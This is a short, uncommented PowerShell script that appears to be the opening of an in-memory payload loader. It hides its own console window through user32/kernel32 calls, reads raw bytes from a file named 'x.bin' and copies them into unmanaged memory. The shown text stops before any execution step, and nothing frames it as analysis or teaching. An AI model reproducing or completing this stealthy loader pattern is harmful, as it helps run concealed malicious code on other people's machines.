$sig = @'
[DllImport("user32.dll")] public static extern bool ShowWindow(IntPtr hWnd, int nCmdShow);
[DllImport("kernel32.dll")] public static extern IntPtr GetConsoleWindow();
'@
Add-Type -MemberDefinition $sig -Name Win -Namespace Util
[Util.Win]::ShowWindow([Util.Win]::GetConsoleWindow(), 0) | Out-Null
Add-Type -AssemblyName System.IO.Compression.FileSystem
Add-Type -Path "$PSScriptRoot/lib/Newtonsoft.Json.dll"
$bytes = [IO.File]::ReadAllBytes("x.bin")
$ptr = [System.Runtime.InteropServices.Marshal]::AllocHGlobal($bytes.Length)
[System.Runtime.InteropServices.Marshal]::Copy($bytes, 0, $ptr, $bytes.Length)
